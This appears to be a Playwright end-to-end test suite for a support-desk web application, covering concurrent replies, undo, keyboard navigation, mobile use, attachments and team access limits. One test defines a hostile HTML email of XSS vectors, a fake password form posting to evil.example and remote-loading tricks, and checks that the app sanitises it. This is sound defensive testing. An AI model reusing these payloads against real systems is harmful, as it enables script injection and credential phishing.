"""An agent's day at the desk: two at one ticket, undo, keyboard, phone, no JavaScript, hostile mail, files."""

from __future__ import annotations

import re
from email.message import EmailMessage
from uuid import uuid4

from playwright.sync_api import Page, expect

from tests.plugin_services import wait_until

# A stream that says nothing and asks to be left alone: the page of somebody whom the news has not reached yet.
DEAF = {"status": 200, "content_type": "text/event-stream", "body": "retry: 600000\n\n"}


def send_button(page: Page):
    return page.locator("#composer button[data-sends]")


def words(page: Page):
    return page.get_by_label("Your words")


def message(page: Page, text: str):
    return page.locator("article.message", has_text=text)


def a_mail(sender: str, subject: str, text: str, html: str = "") -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "support@desk.example", subject
    mail["Message-ID"] = f"<{uuid4().hex}@customer.example>"
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    return mail


def mails_to(product, address: str) -> list[str]:
    return [
        one.message.get_body(("plain",)).get_content() for one in product.sink.received if one.recipients == [address]
    ]


def test_the_second_of_two_agents_is_told_and_keeps_the_draft(product, visit):
    ticket = product.ask("open_ticket", subject="Two at one ticket")
    ana = visit("ana", f"/tickets/{ticket}/")
    bea = visit("bea", "/customers/")
    bea.route("**/tickets/live/**", lambda route: route.fulfill(**DEAF))
    bea.goto(f"/tickets/{ticket}/")
    words(bea).fill("Bea's careful answer")

    words(ana).fill("Ana was quicker")
    send_button(ana).click()
    expect(message(ana, "Ana was quicker")).to_be_visible()
    send_button(bea).click()

    expect(bea.locator("#composer-said")).to_contain_text("Ana Holm wrote while you were writing")
    expect(words(bea)).to_have_value("Bea's careful answer")
    expect(message(bea, "Ana was quicker")).to_be_visible()
    assert [m["text"] for m in product.ask("facts", ticket=ticket)["messages"]] == ["It burns.", "Ana was quicker"]

    send_button(bea).click()
    expect(message(bea, "Bea's careful answer")).to_be_visible()
    assert len(product.ask("facts", ticket=ticket)["messages"]) == 3


def test_undo_takes_a_reply_back_before_it_leaves(product, visit):
    address = "undo@alpha.example"
    ticket = product.ask("open_ticket", subject="To be taken back", email=address, name="Una")
    page = visit("ana", f"/tickets/{ticket}/")

    words(page).fill("A hasty answer")
    send_button(page).click()
    page.locator(".toast").get_by_role("button", name="Undo").click()

    expect(page.get_by_text("Taken back; nothing was sent.")).to_be_visible()
    expect(words(page)).to_have_value("A hasty answer")
    words(page).fill("A calm answer")
    send_button(page).click()
    wait_until(lambda: any("A calm answer" in text for text in mails_to(product, address)), 60, "the second answer")
    assert not any("A hasty answer" in text for text in mails_to(product, address))
    assert sorted(product.ask("outgoing", ticket=ticket)) in (["sent"], ["cancelled", "sent"])


def test_a_double_click_on_send_sends_once(product, visit):
    address = "twice@alpha.example"
    ticket = product.ask("open_ticket", subject="Clicked twice", email=address, name="Tina")
    page = visit("ana", f"/tickets/{ticket}/")

    words(page).fill("Once is enough")
    send_button(page).dblclick()
    expect(message(page, "Once is enough")).to_have_count(1)
    expect(page.locator("#composer-said .banner")).to_have_count(0)

    # The same form twice at the same moment, past what the page itself holds back.
    words(page).fill("And once more")
    page.evaluate(
        """async () => {
            const form = document.getElementById("composer");
            const post = () => fetch(form.action, { method: "POST", body: new FormData(form) });
            await Promise.all([post(), post()]);
            form.querySelector("textarea").value = "";
        }"""
    )
    wait_until(lambda: any("And once more" in text for text in mails_to(product, address)), 60, "the answer")
    said = [m["text"] for m in product.ask("facts", ticket=ticket)["messages"]]
    assert said == ["It burns.", "Once is enough", "And once more"]
    wait_until(lambda: set(product.ask("outgoing", ticket=ticket)) == {"sent"}, 30, "all mails sent")
    assert product.ask("outgoing", ticket=ticket) == ["sent", "sent"]


def test_an_answer_with_a_file_goes_out_without_javascript(product, visit, tmp_path):
    ticket = product.ask("open_ticket", subject="Without scripts", text="Please send the steps.")
    page = visit("ana", "/tickets/?view=all", java_script_enabled=False)
    page.get_by_role("link", name="Without scripts").click()
    expect(page.get_by_text("Please send the steps.")).to_be_visible()

    file = tmp_path / "steps.txt"
    file.write_text("1. Switch it on.")
    words(page).fill("Here they are.")
    page.locator("#composer input[type=file]").set_input_files(file)
    send_button(page).click()

    expect(message(page, "Here they are.")).to_contain_text("steps.txt")
    page.locator("#ticket-head [data-key=s] > summary").click()
    page.get_by_role("button", name="Pending").click()
    expect(page.locator("#ticket-head [data-key=s] > summary")).to_contain_text("Pending")
    facts = product.ask("facts", ticket=ticket)
    assert facts["status"] == "pending"
    assert facts["messages"][-1]["files"] == ["steps.txt"]


def test_everything_of_the_day_goes_by_keyboard(product, visit):
    ticket = product.ask("open_ticket", subject="Keyboard zebra", text="Only keys.")
    page = visit("ana", "/tickets/?view=all")
    keys = page.keyboard

    keys.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    keys.press("Escape")
    expect(page.get_by_role("dialog")).to_be_hidden()

    keys.press("/")
    keys.type("zebra")
    keys.press("Enter")
    expect(page.get_by_role("link", name="Keyboard zebra")).to_be_visible()
    keys.press("j")
    expect(page.get_by_role("link", name="Keyboard zebra")).to_be_focused()
    keys.press("Enter")
    page.wait_for_url(f"**/tickets/{ticket}/")

    keys.press("j")
    expect(message(page, "Only keys.")).to_be_focused()
    keys.press("r")
    expect(words(page)).to_be_focused()
    keys.type("Answered by keys")
    keys.press("Control+Enter")
    expect(message(page, "Answered by keys")).to_be_visible()
    keys.press("Escape")
    keys.press("n")
    expect(page.get_by_label("Internal note")).to_be_checked()
    keys.type("Noted by keys")
    keys.press("Control+Enter")
    expect(page.locator("article.message--note", has_text="Noted by keys")).to_be_visible()
    keys.press("Escape")

    keys.press("a")
    expect(page.get_by_label("Find an agent")).to_be_focused()
    keys.type("Bea")
    keys.press("Enter")
    expect(page.locator("#ticket-head [data-key=a] > summary")).to_contain_text("Bea Lund")
    keys.press("s")
    expect(page.locator("#ticket-head button[name=status]:focus")).to_have_count(1)
    keys.press("Escape")
    expect(page.locator("details.menu[open]")).to_have_count(0)
    keys.press("s")
    expect(page.locator("#ticket-head button[name=status]:focus")).to_have_attribute("value", "pending")
    keys.press("Enter")
    expect(page.locator("#ticket-head [data-key=s] > summary")).to_contain_text("Pending")

    facts = product.ask("facts", ticket=ticket)
    assert [(m["text"], m["public"]) for m in facts["messages"]] == [
        ("Only keys.", True),
        ("Answered by keys", True),
        ("Noted by keys", False),
    ]
    assert (facts["assignee"], facts["status"]) == ("Bea Lund", "pending")
    keys.press("u")
    page.wait_for_url(re.compile(r"/tickets/(\?.*)?$"))


def test_j_and_k_walk_down_and_up_the_list(product, visit):
    older = product.ask("open_ticket", subject="Walkable yak one")
    newer = product.ask("open_ticket", subject="Walkable yak two")
    page = visit("ana", "/tickets/?q=yak")

    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(page.locator(f"#open-{older}")).to_be_focused()
    page.keyboard.press("k")
    expect(page.locator(f"#open-{newer}")).to_be_focused()

    # Who comes back from a ticket by key stands where they were.
    page.keyboard.press("j")
    page.keyboard.press("o")
    page.wait_for_url(f"**/tickets/{older}/")
    page.keyboard.press("u")
    page.wait_for_url("**/tickets/?q=yak")
    expect(page.locator(f"#open-{older}")).to_be_focused()


def test_a_new_ticket_does_not_move_the_row_under_the_pointer(product, visit):
    ticket = product.ask("open_ticket", subject="Under the pointer")
    page = visit("ana", "/tickets/?view=all")
    row = page.locator(f"#ticket-{ticket}")
    row.hover()
    before = row.bounding_box()

    new = product.ask("open_ticket", subject="Came meanwhile")

    expect(page.locator("[data-live-waiting]")).to_be_visible()
    assert row.bounding_box() == before
    expect(page.locator(f"#ticket-{new}")).to_have_count(0)
    page.mouse.move(5, 5)
    expect(page.locator(f"#ticket-{new}")).to_be_visible()
    assert page.locator("[data-ticket]").first.get_attribute("data-ticket") == str(new)


def test_a_message_that_arrives_leaves_draft_and_focus_alone(product, visit):
    address = "talks@alpha.example"
    ticket = product.ask("open_ticket", subject="Keeps talking", email=address, name="Tal")
    page = visit("ana", f"/tickets/{ticket}/")
    words(page).click()
    page.keyboard.type("Half a sent")

    mail = a_mail(f"Tal <{address}>", "Re: Keeps talking", "One more thing came to my mind.")
    product.send(mail.as_bytes(), address, product.ask("reply_to", ticket=ticket))

    expect(message(page, "One more thing came to my mind.")).to_be_visible(timeout=30_000)
    expect(words(page)).to_be_focused()
    page.keyboard.type("ence")
    expect(words(page)).to_have_value("Half a sentence")
    words(page).fill("")


HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>body{background:url(https://evil.example/css)} a{position:fixed;inset:0;z-index:99}</style>
<link rel="stylesheet" href="https://evil.example/sheet.css"><base href="https://evil.example/"></head>
<body onload="top.hacked=1"><script>top.hacked=1;document.title='hacked'</script>
<img src=x onerror="top.hacked=1"><svg onload="top.hacked=1"></svg>
<form action="https://evil.example/form"><input name="password"><button>Sign in again</button></form>
<iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/film" autoplay></video>
<div style="position:fixed;inset:0;background:url(https://evil.example/overlay)">cover</div>
<a href="javascript:top.hacked=1">harmless looking</a>
<p>The words of the mail.</p><img src="https://pictures.example/pixel.png" width="1" height="1"></body></html>"""


def test_a_hostile_mail_runs_nothing_and_asks_nobody_until_pictures_are_wanted(product, visit):
    """C01: the page stays ours whatever the mail holds; a remote picture is asked for by a press alone."""
    mail = a_mail("Eve <eve@evil.example>", "A friendly mail", "The words of the mail.", HOSTILE)
    product.send(mail.as_bytes(), "eve@evil.example")
    header_id = mail["Message-ID"].strip("<>")
    ticket = wait_until(lambda: product.ask("ticket_of", header_id=header_id), 60, "the mail's ticket")
    page = visit("ana", "/customers/", foreign="https://pictures.example/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.route("https://pictures.example/**", lambda route: route.fulfill(status=200, content_type="image/png"))
    page.goto(f"/tickets/{ticket}/")

    frame = page.frame_locator("iframe.mail-frame")
    expect(frame.get_by_text("The words of the mail.")).to_be_visible()
    assert frame.locator("script, form, input, iframe, video, svg, link, base, meta[http-equiv]").count() == 0
    assert frame.locator("[href^='javascript'], [onload], [onerror]").count() == 0
    assert frame.locator("[style*=fixed], [style*=url]").count() == 0
    assert page.evaluate("window.hacked") is None
    assert page.title() == f"#{ticket} A friendly mail"
    assert [url for url in asked if not url.startswith(product.url)] == []

    page.get_by_role("link", name="Load them").click()
    # Asking the page anything lets the browser's news in.
    wait_until(lambda: page.title() and "https://pictures.example/pixel.png" in asked, 15, "the picture's request")
    assert {url for url in asked if not url.startswith(product.url)} == {"https://pictures.example/pixel.png"}
    assert page.evaluate("window.hacked") is None


def test_one_signs_in_reads_and_answers_on_a_phone(product, visit):
    address = product.ask("hire", name="Pia Phone")
    ticket = product.ask("open_ticket", subject="Read on the train", text="Where is it?")
    page = visit("", "/accounts/login/", viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    page.get_by_label("Email").fill(address)
    page.get_by_label("Password", exact=True).fill("correct horse battery staple")
    page.get_by_role("button", name="Sign in", exact=True).tap()
    page.wait_for_url("**/tickets/**")
    page.goto("/tickets/?view=all")

    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.get_by_role("link", name="Read on the train").tap()
    expect(page.get_by_text("Where is it?")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    words(page).fill("On its way.")
    send_button(page).tap()

    expect(message(page, "On its way.")).to_be_visible()
    assert product.ask("facts", ticket=ticket)["messages"][-1]["by"] == "Pia Phone"


DROP = """([name, text, kind]) => {
    const files = new DataTransfer();
    files.items.add(new File([text], name, { type: "text/plain" }));
    const body = document.getElementById("body");
    const how = { bubbles: true, cancelable: true };
    body.dispatchEvent(
        kind === "drop"
            ? new DragEvent("drop", { dataTransfer: files, ...how })
            : new ClipboardEvent("paste", { clipboardData: files, ...how }),
    );
}"""


def test_files_come_by_drop_and_by_paste(product, visit):
    ticket = product.ask("open_ticket", subject="Takes files")
    page = visit("ana", f"/tickets/{ticket}/")

    page.evaluate(DROP, ["dropped.txt", "one", "drop"])
    page.evaluate(DROP, ["pasted.txt", "two", "paste"])
    expect(page.locator("#composer [name=attachments]")).to_have_count(2)
    words(page).fill("Both attached.")
    send_button(page).click()

    expect(message(page, "Both attached.")).to_contain_text("pasted.txt")
    assert sorted(product.ask("facts", ticket=ticket)["messages"][-1]["files"]) == ["dropped.txt", "pasted.txt"]
    expect(page.locator("#composer [name=attachments]")).to_have_count(0)


def test_a_file_that_is_too_large_is_refused_in_words_and_the_text_stays(product, visit, tmp_path):
    ticket = product.ask("open_ticket", subject="Takes no giants")
    large = tmp_path / "giant.bin"
    large.write_bytes(b"0" * (2**20 + 1))
    page = visit("ana", f"/tickets/{ticket}/")
    words(page).fill("Words that must not be lost")
    page.locator("#composer input[type=file]").set_input_files(large)

    expect(page.locator("#composer .file--failed")).to_contain_text("A file has at most 1 MB.")
    expect(words(page)).to_have_value("Words that must not be lost")
    words(page).fill("")

    plain = visit("ana", f"/tickets/{ticket}/", java_script_enabled=False)
    words(plain).fill("Words that must not be lost")
    plain.locator("#composer input[type=file]").set_input_files(large)
    send_button(plain).click()
    expect(plain.locator("#composer-said")).to_contain_text("A file has at most 1 MB.")
    expect(words(plain)).to_have_value("Words that must not be lost")
    assert [m["text"] for m in product.ask("facts", ticket=ticket)["messages"]] == ["It burns."]


def test_an_agent_of_another_team_sees_neither_the_row_arriving_nor_the_ticket(product, visit):
    """A02: live news, list and page keep the same border."""
    page = visit("sam", "/tickets/?view=all")

    secret = product.ask("open_ticket", subject="Only for Support")
    ours = product.ask("open_ticket", subject="For Sales", team="Sales")

    expect(page.locator(f"#ticket-{ours}")).to_be_visible(timeout=30_000)
    expect(page.locator(f"#ticket-{secret}")).to_have_count(0)
    assert page.goto("/tickets/?view=all").status == 200
    expect(page.get_by_text("Only for Support")).to_have_count(0)
    assert page.goto(f"/tickets/{secret}/").status == 404
    expect(page.get_by_text("Only for Support")).to_have_count(0)


def test_a_strangers_answer_is_held_until_an_agent_lets_it_in(product, visit):
    ticket = product.ask("open_ticket", subject="Between the two of us")
    mail = a_mail("Stranger <stranger@elsewhere.example>", "Re: Between the two of us", "Let me join in.")
    header_id = mail["Message-ID"].strip("<>")
    product.send(mail.as_bytes(), "stranger@elsewhere.example", product.ask("reply_to", ticket=ticket))
    wait_until(lambda: (product.ask("state_of", header_id=header_id) or ["", ""])[1] == "held", 60, "the hold")

    page = visit("ana", f"/tickets/{ticket}/")
    panel = page.locator("#held")
    expect(panel).to_contain_text("stranger@elsewhere.example")
    expect(message(page, "Let me join in.")).to_have_count(0)
    panel.get_by_role("button", name="Add to this ticket").click()

    expect(message(page, "Let me join in.")).to_be_visible()
    expect(panel.get_by_role("button", name="Add to this ticket")).to_have_count(0)
    assert [m["by"] for m in product.ask("facts", ticket=ticket)["messages"]] == ["Kim Jensen", "Stranger"]
